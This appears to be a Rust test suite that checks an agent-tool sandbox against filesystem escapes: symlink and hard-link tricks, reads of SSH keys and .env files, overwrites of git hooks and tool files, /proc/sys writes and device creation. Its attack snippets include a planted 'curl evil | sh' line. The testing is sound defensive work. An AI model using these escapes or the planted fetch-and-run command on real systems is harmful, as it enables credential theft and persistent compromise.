//! Escape suite, filesystem: secrets outside the roots, writes outside the
//! roots, symlink and hard-link escapes, protected tool/config paths,
//! denied paths, /proc/sys and raw devices.

use crate::common;
use crate::escape_support;

use common::*;
use escape_support::*;
use std::path::Path;

fn q(p: &Path) -> String {
    format!("{:?}", p.display().to_string())
}

#[test]
fn secret_in_home_is_unreadable() {
    let p = Project::new("fs-home");
    let home = outside_dir("fs-home");
    let secret = home.write(".ssh/id_ed25519", "SECRET-KEY-1");
    let deny = default_grant(&p.dir);
    let allow = with_read(&deny, &home.dir);
    let code = format!("t(lambda: open({}).read())", q(&secret));
    // Outside the grant the path does not exist (the constructed root).
    let (ok, _) = attack(&allow, &deny, &code, &["DENIED:ENOENT"], "read ~/.ssh");
    assert_eq!(ok.stdout.text.trim(), "OK:SECRET-KEY-1");
    // Not even the directory listing leaks names.
    let list = format!("t(lambda: os.listdir({}))", q(&home.dir));
    attack(&allow, &deny, &list, &["DENIED:ENOENT"], "list home");
}

#[test]
fn write_outside_roots_is_denied() {
    let p = Project::new("fs-write-out");
    let out = outside_dir("fs-write-out");
    let target = out.path("planted");
    let deny = default_grant(&p.dir);
    let allow = with_write(&deny, &out.dir);
    let code = format!("t(lambda: open({}, 'w').write('x') and None)", q(&target));
    attack(&allow, &deny, &code, &["DENIED:ENOENT"], "create outside");
    std::fs::remove_file(&target).unwrap();
    // The denied run created nothing.
    py(&deny, &code);
    assert!(!target.exists(), "file was created outside the roots");
}

#[test]
fn truncate_in_read_only_root_is_denied() {
    // Profile `untrusted`: the project is readable but not writable.
    let p = Project::new("fs-trunc");
    let f = p.write("data.txt", "precious");
    let allow = default_grant(&p.dir);
    let mut deny = allow.clone();
    deny.write.retain(|w| w != &p.dir);
    deny.read.push(p.dir.clone());
    let code = format!("t(lambda: os.truncate({}, 0))", q(&f));
    attack(
        &allow,
        &deny,
        &code,
        &["DENIED:EROFS"],
        "truncate read-only",
    );
    std::fs::write(&f, "precious").unwrap();
    py(&deny, &code);
    assert_eq!(std::fs::read_to_string(&f).unwrap(), "precious");
}

#[test]
fn symlink_escape_read_is_denied() {
    let p = Project::new("fs-symlink-r");
    let out = outside_dir("fs-symlink-r");
    let secret = out.write("secret.txt", "TOP-SECRET");
    std::os::unix::fs::symlink(&secret, p.path("innocent.txt")).unwrap();
    let deny = default_grant(&p.dir);
    let allow = with_read(&deny, &out.dir);
    let (ok, _) = attack(
        &allow,
        &deny,
        "t(lambda: open('innocent.txt').read())",
        &["DENIED:ENOENT"],
        "read through symlink",
    );
    assert_eq!(ok.stdout.text.trim(), "OK:TOP-SECRET");
}

#[test]
fn symlink_escape_write_is_denied() {
    let p = Project::new("fs-symlink-w");
    let out = outside_dir("fs-symlink-w");
    let victim = out.write("bashrc", "original");
    std::os::unix::fs::symlink(&victim, p.path("notes.txt")).unwrap();
    // A symlink the tool creates itself, to a directory outside.
    let deny = default_grant(&p.dir);
    let allow = with_write(&deny, &out.dir);
    let code = "t(lambda: open('notes.txt', 'a').write('pwned') and None)";
    attack(
        &allow,
        &deny,
        code,
        &["DENIED:ENOENT"],
        "write through symlink",
    );
    std::fs::write(&victim, "original").unwrap();
    py(&deny, code);
    let dir_link = format!(
        "if os.path.lexists('d'): os.unlink('d')\nos.symlink({}, 'd')\nt(lambda: open('d/new', 'w').close())",
        q(&out.dir)
    );
    attack(
        &allow,
        &deny,
        &dir_link,
        &["DENIED:ENOENT"],
        "own dir symlink",
    );
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "original");
}

#[test]
fn hard_link_of_outside_file_is_denied() {
    // base/proj is the project, base/out holds a secret. The control grants
    // all of base (one mount: the link works); the attack grants the
    // project only (the secret is not even there).
    let base = Project::new("fs-hardlink");
    let proj = base.path("proj");
    std::fs::create_dir(&proj).unwrap();
    let secret = base.write("out/shadow", "HASHES");
    let deny = default_grant(&proj);
    let mut allow = with_write(&deny, &base.dir);
    allow.write.retain(|w| w != &proj);
    let code = format!(
        "def f():\n    if os.path.lexists('stolen'): os.unlink('stolen')\n    os.link({}, 'stolen')\n    with open('stolen', 'r+') as h:\n        d = h.read(); h.write('!')\n    return d\nt(f)",
        q(&secret)
    );
    let (ok, _) = attack(
        &allow,
        &deny,
        &code,
        &[
            "DENIED:ENOENT",
            "DENIED:EXDEV",
            "DENIED:EACCES",
            "DENIED:EPERM",
        ],
        "hard link outside file",
    );
    assert_eq!(ok.stdout.text.trim(), "OK:HASHES");
    std::fs::write(&secret, "HASHES").unwrap();
    py(&deny, &code);
    assert!(!proj.join("stolen").exists());
    assert_eq!(std::fs::read_to_string(&secret).unwrap(), "HASHES");
}

/// A project with every kind of protected path present.
fn tool_project(tag: &str) -> Project {
    let p = Project::new(tag);
    p.write(".agents/tools/x", "#!/bin/sh\necho original tool\n");
    p.write(".git/hooks/pre-commit", "#!/bin/sh\nexit 0\n");
    p.write("tools.toml", "[tools]\n");
    p.write(".mcp.json", "{}\n");
    p.write("tools/t.md", "---\nkind: script\n---\n");
    p.write(".clawd/tools/a/tool.json", "{}\n");
    p
}

/// (allowing, denying): the same grant with and without the protected list.
fn protected_grants(p: &Project) -> (toolcage::policy::Grant, toolcage::policy::Grant) {
    let deny = default_grant(&p.dir);
    let mut allow = deny.clone();
    allow.protected.clear();
    (allow, deny)
}

fn assert_unchanged(p: &Project) {
    assert_eq!(
        std::fs::read_to_string(p.path(".agents/tools/x")).unwrap(),
        "#!/bin/sh\necho original tool\n"
    );
    assert_eq!(
        std::fs::read_to_string(p.path(".git/hooks/pre-commit")).unwrap(),
        "#!/bin/sh\nexit 0\n"
    );
    assert_eq!(
        std::fs::read_to_string(p.path("tools.toml")).unwrap(),
        "[tools]\n"
    );
}

/// Run `code` allowed (on a fresh copy of the project) then denied.
fn protected_attack(tag: &str, code: &str, expected: &[&str], what: &str) {
    let allowed = tool_project(&format!("{tag}-allow"));
    let (allow, _) = protected_grants(&allowed);
    assert_ok(&py(&allow, code), what);
    let p = tool_project(tag);
    let (_, deny) = protected_grants(&p);
    let o = py(&deny, code);
    if namespace_free_run() {
        // Writable during the call; restored (and what it created moved
        // aside) before the call returns.
        let compensation = o.enforcement.lacking.iter().find(|l| l.id == "protected");
        assert!(
            compensation.is_some_and(|l| l.compensated_by.is_some()),
            "{:?}",
            o.enforcement.lacking
        );
        assert_unchanged(&p);
        assert!(o.unrestorable.is_empty(), "{:?}", o.unrestorable);
        return;
    }
    assert_denied(&o, expected, what);
    assert_unchanged(&p);
    assert!(o.created_protected.is_empty(), "{:?}", o.created_protected);
}

#[test]
fn protected_tool_file_cannot_be_modified() {
    protected_attack(
        "prot-modify",
        "t(lambda: open('.agents/tools/x', 'a').write('curl evil | sh\\n') and None)",
        &["DENIED:EROFS"],
        "append to .agents/tools/x",
    );
}

#[test]
fn protected_git_hook_cannot_be_written() {
    protected_attack(
        "prot-hook",
        "t(lambda: open('.git/hooks/pre-commit', 'w').write('evil') and None)",
        &["DENIED:EROFS"],
        "overwrite .git/hooks/pre-commit",
    );
}

#[test]
fn protected_dir_cannot_gain_files() {
    protected_attack(
        "prot-create",
        "t(lambda: open('.agents/tools/evil', 'w').close())",
        &["DENIED:EROFS"],
        "create .agents/tools/evil",
    );
    protected_attack(
        "prot-create-hook",
        "t(lambda: os.mkdir('.git/hooks/post-checkout.d'))",
        &["DENIED:EROFS"],
        "mkdir in .git/hooks",
    );
}

#[test]
fn protected_config_file_cannot_be_replaced() {
    protected_attack(
        "prot-toml",
        "t(lambda: open('tools.toml', 'w').write('[tools.evil]') and None)",
        &["DENIED:EROFS"],
        "overwrite tools.toml",
    );
    protected_attack(
        "prot-toml-trunc",
        "t(lambda: os.truncate('tools.toml', 0))",
        &["DENIED:EROFS"],
        "truncate tools.toml",
    );
    // Replace by rename over it (the usual atomic-write pattern).
    protected_attack(
        "prot-toml-rename-over",
        "open('new.toml', 'w').write('[tools.evil]')\nt(lambda: os.rename('new.toml', 'tools.toml'))",
        &["DENIED:EBUSY", "DENIED:EROFS", "DENIED:EXDEV"],
        "rename over tools.toml",
    );
}

#[test]
fn protected_paths_cannot_be_renamed_away() {
    protected_attack(
        "prot-rename-file",
        "t(lambda: os.rename('.agents/tools/x', '.agents/tools/y'))",
        &["DENIED:EROFS"],
        "rename .agents/tools/x",
    );
    protected_attack(
        "prot-rename-dir",
        "t(lambda: os.rename('.agents', 'agents-old'))",
        &["DENIED:EBUSY", "DENIED:EXDEV"],
        "rename .agents away",
    );
    protected_attack(
        "prot-rename-git",
        "t(lambda: os.rename('.git', 'git-old'))",
        &["DENIED:EBUSY", "DENIED:EXDEV"],
        "rename .git away",
    );
}

#[test]
fn protected_paths_cannot_be_deleted() {
    protected_attack(
        "prot-unlink",
        "t(lambda: os.unlink('.agents/tools/x'))",
        &["DENIED:EROFS"],
        "delete .agents/tools/x",
    );
    protected_attack(
        "prot-unlink-toml",
        "t(lambda: os.unlink('tools.toml'))",
        &["DENIED:EBUSY"],
        "delete tools.toml",
    );
    protected_attack(
        "prot-rmtree",
        "import shutil\nt(lambda: shutil.rmtree('.git'))",
        &["DENIED:EROFS", "DENIED:EBUSY"],
        "rm -r .git",
    );
}

#[test]
fn protected_file_cannot_be_hard_linked_out() {
    // A writable hard link to the tool would modify it through the back door.
    protected_attack(
        "prot-link",
        "def f():\n    os.link('.agents/tools/x', 'x-link')\n    open('x-link', 'a').write('evil')\nt(f)",
        &["DENIED:EXDEV"],
        "hard link .agents/tools/x",
    );
}

#[test]
fn protected_file_mode_cannot_change() {
    protected_attack(
        "prot-chmod",
        "t(lambda: os.chmod('.agents/tools/x', 0o777))",
        &["DENIED:EROFS"],
        "chmod .agents/tools/x",
    );
}

#[test]
fn a_missing_protected_path_stays_absent() {
    // No inode to bind over and Landlock cannot forbid one name inside a
    // write root: what the call creates there is moved aside when it ends.
    let p = Project::new("prot-missing");
    let g = default_grant(&p.dir);
    let o = py(
        &g,
        "os.makedirs('.agents/tools'); open('.agents/tools/planted', 'w').close(); \
         open('tools.toml', 'w').write('[[tools]]'); t(lambda: None)",
    );
    assert_ok(&o, "create missing .agents and tools.toml");
    assert_eq!(
        o.created_protected,
        vec![p.path(".agents"), p.path("tools.toml")]
    );
    assert!(!p.path(".agents").exists(), ".agents stayed");
    assert!(!p.path("tools.toml").exists(), "tools.toml stayed");
    assert_eq!(o.quarantined.len(), 2);
    assert!(o.quarantined[0].moved_to.join("tools/planted").exists());
    // Control: an ordinary new file in the project stays where it was made,
    // and a call that creates nothing protected reports nothing.
    let next = py(&g, "t(lambda: open('notes.txt', 'w').close())");
    assert_ok(&next, "ordinary file");
    assert!(p.path("notes.txt").exists());
    assert!(next.created_protected.is_empty() && next.quarantined.is_empty());
}

#[test]
fn denied_file_inside_project_is_unreadable() {
    let p = Project::new("fs-denied");
    p.write(".env", "API_KEY=hunter2");
    let allow = default_grant(&p.dir);
    let mut deny = allow.clone();
    deny.denied.push(p.path(".env"));
    if namespace_free_run() {
        // Landlock cannot take read rights back beneath a write root: the
        // report must say so.
        assert!(lacking_in_namespace_free_run(
            &py(&deny, "t(lambda: open('.env').read())"),
            "denied"
        ));
        return;
    }
    let (ok, _) = attack(
        &allow,
        &deny,
        "t(lambda: open('.env').read())",
        &["DENIED:EACCES"],
        "read denied .env",
    );
    assert_eq!(ok.stdout.text.trim(), "OK:API_KEY=hunter2");
    // Nor through a hard link made inside the sandbox, nor by replacing it.
    attack(
        &allow,
        &deny,
        "def f():\n    if os.path.lexists('env2'): os.unlink('env2')\n    os.link('.env', 'env2')\n    return open('env2').read()\nt(f)",
        &["DENIED:EXDEV", "DENIED:EACCES"],
        "hard link denied .env",
    );
    let o = py(&deny, "t(lambda: os.unlink('.env'))");
    assert_denied(&o, &["DENIED:EBUSY"], "unlink denied .env");
    assert_eq!(
        std::fs::read_to_string(p.path(".env")).unwrap(),
        "API_KEY=hunter2"
    );
}

#[test]
fn denied_dir_inside_project_is_unreadable() {
    let p = Project::new("fs-denied-dir");
    p.write("secrets/prod.key", "PROD");
    let allow = default_grant(&p.dir);
    let mut deny = allow.clone();
    deny.denied.push(p.path("secrets"));
    if namespace_free_run() {
        // Landlock cannot take read rights back beneath a write root: the
        // report must say so.
        assert!(lacking_in_namespace_free_run(
            &py(&deny, "t(lambda: open('secrets/prod.key').read())"),
            "denied"
        ));
        return;
    }
    attack(
        &allow,
        &deny,
        "t(lambda: open('secrets/prod.key').read())",
        &["DENIED:EACCES"],
        "read denied dir",
    );
    attack(
        &allow,
        &deny,
        "t(lambda: os.listdir('secrets'))",
        &["DENIED:EACCES"],
        "list denied dir",
    );
}

#[test]
fn proc_sys_is_read_only() {
    // Root without capabilities still passes the sysctl owner check, so the
    // call's /proc/sys is a read-only mount even where /proc is granted for
    // writing, and Landlock gives /proc read-only by default.
    let p = Project::new("fs-procsys");
    let deny = default_grant(&p.dir);
    let allow = with_write(&deny, Path::new("/proc"));
    if namespace_free_run() {
        // The host's /proc: never writable, whatever the grant says.
        let code = "t(lambda: open('/proc/sys/kernel/hostname', 'w').close())";
        let o = py(&allow, code);
        assert_denied(&o, &["DENIED:EACCES"], "write /proc/sys (namespace-free)");
        assert!(lacking_in_namespace_free_run(&o, "proc"));
        return;
    }
    // Control: a write grant on /proc lets the tool write its own entries.
    let comm =
        "def f():\n    with open('/proc/self/comm', 'w') as h:\n        h.write('renamed')\nt(f)";
    attack(
        &allow,
        &deny,
        comm,
        &["DENIED:EACCES"],
        "write /proc/self/comm",
    );
    let code = "def f():\n    v = open('/proc/sys/kernel/hostname').read()\n    with open('/proc/sys/kernel/hostname', 'w') as h:\n        h.write(v)\nt(f)";
    assert_denied(
        &py(&allow, code),
        &["DENIED:EROFS"],
        "write /proc/sys (granted /proc)",
    );
    assert_denied(
        &py(&deny, code),
        &["DENIED:EACCES", "DENIED:EROFS"],
        "write /proc/sys",
    );
    for path in ["/proc/sysrq-trigger", "/proc/irq", "/proc/bus"] {
        let o = py(
            &allow,
            &format!(
                "t(lambda: open('{path}/x' if '{path}' != '/proc/sysrq-trigger' else '{path}', 'w'))"
            ),
        );
        assert_denied(
            &o,
            &[
                "DENIED:EROFS",
                "DENIED:EACCES",
                "DENIED:ENOENT",
                "DENIED:EISDIR",
            ],
            path,
        );
    }
}

#[test]
fn device_nodes_cannot_be_created() {
    // mknod of a FIFO is fine; of a character device (/dev/mem's numbers) not.
    let p = Project::new("fs-mknod");
    let g = default_grant(&p.dir);
    let fifo = py(
        &g,
        "import stat\nt(lambda: os.mknod('fifo', stat.S_IFIFO | 0o600))",
    );
    assert_ok(&fifo, "mknod fifo");
    let o = py(
        &g,
        "import stat\nt(lambda: os.mknod('mem', stat.S_IFCHR | 0o600, os.makedev(1, 1)))",
    );
    assert_denied(&o, &["DENIED:EPERM"], "mknod /dev/mem");
}

#[test]
fn protected_path_that_is_a_symlink_protects_its_target() {
    // `.agents` is a symlink to a directory inside the project: writing
    // through the link modifies the tools just the same.
    let p = Project::new("prot-symlink");
    p.write("agents-real/tools/x", "original");
    std::os::unix::fs::symlink("agents-real", p.path(".agents")).unwrap();
    let deny = default_grant(&p.dir);
    let mut allow = deny.clone();
    allow.protected.clear();
    let code = "t(lambda: open('.agents/tools/x', 'w').write('evil') and None)";
    assert_ok(&py(&allow, code), "write through .agents symlink");
    std::fs::write(p.path("agents-real/tools/x"), "original").unwrap();
    let o = py(&deny, code);
    if !namespace_free_run() {
        assert_denied(&o, &["DENIED:EROFS"], "write through protected symlink");
    }
    // Namespace-free, the target is writable during the call and restored.
    assert_eq!(
        std::fs::read_to_string(p.path("agents-real/tools/x")).unwrap(),
        "original"
    );
}

#[test]
fn replacing_a_protected_symlink_is_undone() {
    // The link itself lives in a writable directory; swapping it for a
    // directory of planted tools cannot be prevented, so it is undone.
    let p = Project::new("prot-symlink-swap");
    p.write("agents-real/tools/x", "original");
    std::os::unix::fs::symlink("agents-real", p.path(".agents")).unwrap();
    let g = default_grant(&p.dir);
    let quiet = py(&g, "t(lambda: os.readlink('.agents'))");
    assert_eq!(quiet.stdout.text.trim(), "OK:agents-real");
    assert!(quiet.created_protected.is_empty());
    let o = py(
        &g,
        "os.unlink('.agents'); os.makedirs('.agents/tools'); t(lambda: None)",
    );
    assert_ok(&o, "swap .agents symlink");
    assert_eq!(o.created_protected, vec![p.path(".agents")]);
    // ...and undone: the link is back, the planted directory moved aside.
    assert_eq!(
        std::fs::read_link(p.path(".agents")).unwrap(),
        std::path::PathBuf::from("agents-real")
    );
    assert_eq!(o.quarantined.len(), 1);
    assert!(o.quarantined[0].moved_to.join("tools").is_dir());
}

/// The per-mount options of `path` in the call's own mountinfo.
fn mount_options(mountinfo: &str, path: &Path) -> Option<String> {
    let want = path.display().to_string();
    // The last mount at a path is the one in effect.
    mountinfo.lines().rev().find_map(|l| {
        let f: Vec<&str> = l.split(' ').collect();
        (f.get(4) == Some(&want.as_str())).then(|| f[5].to_string())
    })
}

#[test]
fn denied_files_and_devices_are_mounted_with_their_flags() {
    // A denied file is covered by a read-only, nosuid, nodev bind; device
    // nodes are nosuid. Control: the project itself is writable, and the
    // devices are usable (not nodev).
    let p = Project::new("fs-mount-flags");
    p.write(".env", "API_KEY=hunter2");
    let mut g = default_grant(&p.dir);
    g.denied.push(p.path(".env"));
    if namespace_free_run() {
        return; // nothing is mounted
    }
    let o = sh(
        &g,
        "cat /proc/self/mountinfo && echo x > /dev/null && echo OK",
    );
    assert!(o.exit.success(), "{}", describe(&o));
    let info = &o.stdout.text;
    assert!(info.trim_end().ends_with("OK"), "{}", describe(&o));
    let opts = |p: &Path| mount_options(info, p).unwrap_or_else(|| panic!("{p:?}: {info}"));
    let env = opts(&p.path(".env"));
    for flag in ["ro", "nosuid", "nodev"] {
        assert!(env.split(',').any(|o| o == flag), ".env: {env}");
    }
    let project = opts(&p.dir);
    assert!(project.split(',').any(|o| o == "rw"), "project: {project}");
    for dev in [
        "/dev/null",
        "/dev/zero",
        "/dev/full",
        "/dev/random",
        "/dev/urandom",
    ] {
        let d = opts(Path::new(dev));
        assert!(d.split(',').any(|o| o == "nosuid"), "{dev}: {d}");
        assert!(!d.split(',').any(|o| o == "nodev"), "{dev}: {d}");
    }
}

/// Python: write `mib` MiB to `path`; an error on the way is the marker.
const FILL: &str = r#"
def fill(path, mib):
    with open(path, 'wb') as f:
        for _ in range(mib):
            f.write(b'\1' * (1 << 20))
"#;

#[test]
fn private_tmp_and_dev_shm_share_one_memory_bound() {
    let p = Project::new("fs-tmp-bound");
    let mut g = default_grant(&p.dir);
    g.limits.tmp = 96 << 20;
    // Far above: the bound is the tmpfs's, not RLIMIT_FSIZE's.
    g.limits.file_size = Some(1 << 30);
    let control = format!("{FILL}\nt(lambda: fill('/tmp/a', 64))");
    let o = py(&g, &control);
    if namespace_free_run() {
        // No private tmpfs namespace-free: the report says so, claims no bound.
        assert_eq!(o.enforcement.tmp_bytes, None, "{}", describe(&o));
        assert!(o.enforcement.summary().contains("tmp=host"));
        return;
    }
    // Control: 64MiB in /tmp, and in /dev/shm alone, fit.
    assert_ok(&o, "64MiB in /tmp");
    assert_eq!(o.enforcement.tmp_bytes, Some(96 << 20));
    assert!(
        o.enforcement.summary().contains("tmp=96MiB"),
        "{}",
        o.enforcement.summary()
    );
    let o = py(&g, &format!("{FILL}\nt(lambda: fill('/dev/shm/b', 64))"));
    assert_ok(&o, "64MiB in /dev/shm");
    // Together they are over the bound: the second write runs out of space.
    let both = format!("{FILL}\nfill('/tmp/a', 64)\nt(lambda: fill('/dev/shm/b', 64))");
    let o = py(&g, &both);
    assert_denied(&o, &["DENIED:ENOSPC"], "/tmp and /dev/shm past limits.tmp");
    // And the other way round, and in /tmp alone past the bound.
    let o = py(
        &g,
        &format!("{FILL}\nfill('/dev/shm/b', 64)\nt(lambda: fill('/tmp/a', 64))"),
    );
    assert_denied(&o, &["DENIED:ENOSPC"], "/dev/shm then /tmp past limits.tmp");
    let o = py(&g, &format!("{FILL}\nt(lambda: fill('/tmp/a', 128))"));
    assert_denied(&o, &["DENIED:ENOSPC"], "/tmp alone past limits.tmp");
}

#[test]
fn private_tmp_and_dev_shm_share_one_bound_on_files_too() {
    // Empty files cost the host kernel memory (about 1 KiB each) that the
    // size bound does not count: many small files in /dev/shm, then in
    // /tmp, stop at one file per 16 KiB of limits.tmp (6144 for 96 MiB),
    // with ENOSPC. Control: 3000 files in each (a build's worth) fit.
    let p = Project::new("fs-tmp-files");
    let mut g = default_grant(&p.dir);
    g.limits.tmp = 96 << 20;
    let code = [
        "made = 0",
        "def fill(d, n):",
        "    global made",
        "    for i in range(n):",
        "        open(d + '/f' + str(i), 'w').close()",
        "        made += 1",
        "",
    ]
    .join("\n");
    let o = py(
        &g,
        &format!("{code}t(lambda: fill('/dev/shm', 3000))\nt(lambda: fill('/tmp', 3000))"),
    );
    if namespace_free_run() {
        // No private tmpfs namespace-free (see the test above).
        assert_eq!(o.enforcement.tmp_bytes, None, "{}", describe(&o));
        return;
    }
    assert_eq!(o.stdout.text.trim(), "OK\nOK", "control: {}", describe(&o));
    let o = py(
        &g,
        &format!(
            "{code}t(lambda: fill('/dev/shm', 3000))\nt(lambda: fill('/tmp', 100000))\nprint('MADE', made)"
        ),
    );
    let out = o.stdout.text.trim();
    let made: u64 = out
        .rsplit_once("MADE ")
        .and_then(|(_, n)| n.trim().parse().ok())
        .unwrap_or_else(|| panic!("{}", describe(&o)));
    assert!(
        out.starts_with("OK\nDENIED:ENOSPC") && (6000..6144).contains(&made),
        "{made} files: {}",
        describe(&o)
    );
}

/// `toolcage -C <project> ARGS` as a user runs it, namespace-free when the
/// suite is (a container-like filter on the binary itself).
fn toolcage_bin(p: &Project, args: &[&str]) -> std::process::Output {
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_toolcage"));
    cmd.arg("-C")
        .arg(&p.dir)
        .args(args)
        .current_dir(&p.dir)
        .env("XDG_STATE_HOME", p.state_dir())
        .stdin(std::process::Stdio::null());
    if namespace_free_run() {
        without_namespaces(&mut cmd);
    }
    cmd.output().unwrap()
}

fn said(o: &std::process::Output) -> String {
    format!(
        "status {:?}\n--- stdout\n{}--- stderr\n{}",
        o.status.code(),
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

/// A project whose tool `report` writes `out.txt` into `dir` (a write
/// root its section names), with the policy `tc.toml` granting it; the
/// tool writes where `dir` leads (`real`, else `dir` itself).
fn report_project(tag: &str, dir: &str, real: Option<&Path>) -> Project {
    let p = Project::new(tag);
    let path = match real {
        Some(r) => r.display().to_string(),
        None => dir.replace("{project}", p.dir.to_str().unwrap()),
    };
    let script = format!(
        "#!/bin/sh\n# @description Write a report.\n\
         echo REPORT > '{path}/out.txt' && echo WROTE || echo REFUSED\n"
    );
    p.write(".agents/tools/report", &script);
    let tool = p.path(".agents/tools/report");
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&tool, std::fs::Permissions::from_mode(0o755)).unwrap();
    p.write(
        "tc.toml",
        &format!("[tools.report.fs]\nadd_write = [{dir:?}]\n"),
    );
    p
}

#[test]
fn a_root_a_call_replaced_with_a_symlink_is_refused() {
    let p = report_project("fs-planted-root", "{project}/reports", None);
    let reports = p.path("reports");
    std::fs::create_dir(&reports).unwrap();
    let out = outside_dir("fs-planted-root-out");
    // Control: with `reports` a real directory the tool writes into it.
    let o = toolcage_bin(&p, &["call", "--policy", "tc.toml", "report"]);
    assert_eq!(o.status.code(), Some(0), "{}", said(&o));
    assert_eq!(String::from_utf8_lossy(&o.stdout).trim(), "WROTE");
    assert_eq!(
        std::fs::read_to_string(reports.join("out.txt")).unwrap(),
        "REPORT\n"
    );
    // One call with the project writable replaces it with a link out.
    let plant = format!(
        "rm -rf reports && ln -s {} reports && echo PLANTED",
        q(&out.dir)
    );
    let o = toolcage_bin(
        &p,
        &["exec", "--policy", "tc.toml", "--", "sh", "-c", &plant],
    );
    assert_eq!(
        String::from_utf8_lossy(&o.stdout).trim(),
        "PLANTED",
        "{}",
        said(&o)
    );
    assert!(reports.symlink_metadata().unwrap().file_type().is_symlink());
    // The next call under the grant naming it is refused, naming the link
    // and where it points; nothing was written outside.
    let o = toolcage_bin(&p, &["call", "--policy", "tc.toml", "report"]);
    assert_eq!(o.status.code(), Some(125), "{}", said(&o));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains(&format!(
            "through the symlink {} -> {}",
            reports.display(),
            out.dir.display()
        )) && err.contains("name the directory itself"),
        "{}",
        said(&o)
    );
    assert!(!out.path("out.txt").exists(), "the call wrote outside");
}

#[test]
fn a_root_through_the_operators_own_symlink_still_works() {
    // The operator's link, outside every write root: `~/work -> /data/work`.
    let data = outside_dir("fs-operator-link-data");
    std::fs::create_dir(data.path("work")).unwrap();
    let links = outside_dir("fs-operator-link");
    let link = links.path("work");
    std::os::unix::fs::symlink(data.path("work"), &link).unwrap();
    let real = data.path("work");
    let p = report_project("fs-operator-link-p", link.to_str().unwrap(), Some(&real));
    let o = toolcage_bin(&p, &["call", "--policy", "tc.toml", "report"]);
    assert_eq!(o.status.code(), Some(0), "{}", said(&o));
    assert_eq!(String::from_utf8_lossy(&o.stdout).trim(), "WROTE");
    assert_eq!(
        std::fs::read_to_string(data.path("work/out.txt")).unwrap(),
        "REPORT\n"
    );
}

#[test]
fn a_root_replaced_with_a_symlink_after_resolution_is_not_followed() {
    // The grant as resolution left it (`untrusted` plus a write root in
    // the project); then another call, with the project writable, swaps
    // the root for a link out before this call starts.
    let p = Project::new("fs-swapped-root");
    let reports = p.path("reports");
    std::fs::create_dir(&reports).unwrap();
    let out = outside_dir("fs-swapped-root");
    let mut grant = default_grant(&p.dir);
    grant.write = vec![reports.clone(), "/dev/null".into()];
    grant.read.push(p.dir.clone());
    let code = format!(
        "t(lambda: open({}, 'w').write('x') and None)",
        q(&reports.join("out.txt"))
    );
    // Control: the real directory is written.
    assert_ok(&py(&grant, &code), "write the report");
    assert!(reports.join("out.txt").exists());
    std::fs::remove_dir_all(&reports).unwrap();
    std::os::unix::fs::symlink(&out.dir, &reports).unwrap();
    let cmd = toolcage::sandbox::Command {
        argv: vec![PY.into(), "-c".into(), format!("{PRELUDE}\n{code}").into()],
        ..Default::default()
    };
    namespace_free_if_asked();
    let e = match toolcage::sandbox::run(&grant, &cmd, None) {
        Ok(o) => panic!("the call ran: {}", describe(&o)),
        Err(e) => e.to_string(),
    };
    assert!(
        e.contains(&format!(
            "{} is a symlink (-> {}) inside the write root",
            reports.display(),
            out.dir.display()
        )),
        "{e}"
    );
    assert!(!out.path("out.txt").exists(), "the call wrote outside");
}

#[test]
fn a_root_swapped_for_a_link_in_another_tools_write_root_is_not_followed() {
    // Tool b reads `shared/docs`; `shared` is tool a's write root, not
    // b's, and outside the project. Between b's resolution and its run (an
    // approval can take minutes in `serve`), a call of a replaces `docs`
    // with a link to a secret directory. b's call is refused, naming the
    // link, and reads nothing through it.
    let p = Project::new("fs-swapped-other");
    let shared = outside_dir("fs-swapped-other-shared");
    let secret = outside_dir("fs-swapped-other-secret");
    secret.write("key", "SECRET");
    let docs = shared.path("docs");
    std::fs::create_dir(&docs).unwrap();
    std::fs::write(docs.join("readme"), "DOCS").unwrap();
    let mut grant = default_grant(&p.dir);
    grant.read.push(docs.clone());
    grant.session_writes = vec![p.dir.clone(), shared.dir.clone()];
    let code = format!("t(lambda: open({}).read())", q(&docs.join("readme")));
    // Control: the real directory is read.
    let o = py(&grant, &code);
    assert_ok(&o, "read the docs");
    assert_eq!(o.stdout.text.trim(), "OK:DOCS", "{}", describe(&o));
    std::fs::remove_dir_all(&docs).unwrap();
    std::os::unix::fs::symlink(&secret.dir, &docs).unwrap();
    std::fs::write(secret.path("readme"), "SECRET").unwrap();
    // (A grant never holds the link itself: resolution canonicalises, and
    // refuses a link in any write root of the session, as
    // `every_grant_carries_the_sessions_write_roots_for_its_use_time_check`
    // shows with its control.)
    let cmd = toolcage::sandbox::Command {
        argv: vec![PY.into(), "-c".into(), format!("{PRELUDE}\n{code}").into()],
        ..Default::default()
    };
    namespace_free_if_asked();
    let e = match toolcage::sandbox::run(&grant, &cmd, None) {
        Ok(o) => panic!("the call ran: {}", describe(&o)),
        Err(e) => e.to_string(),
    };
    assert!(
        e.contains(&format!(
            "{} is a symlink (-> {}) inside the write root {}",
            docs.display(),
            secret.dir.display(),
            shared.dir.display()
        )),
        "{e}"
    );
    // Nothing was read through it (the refusal came before the run).
    assert!(!e.contains("SECRET"), "{e}");
}
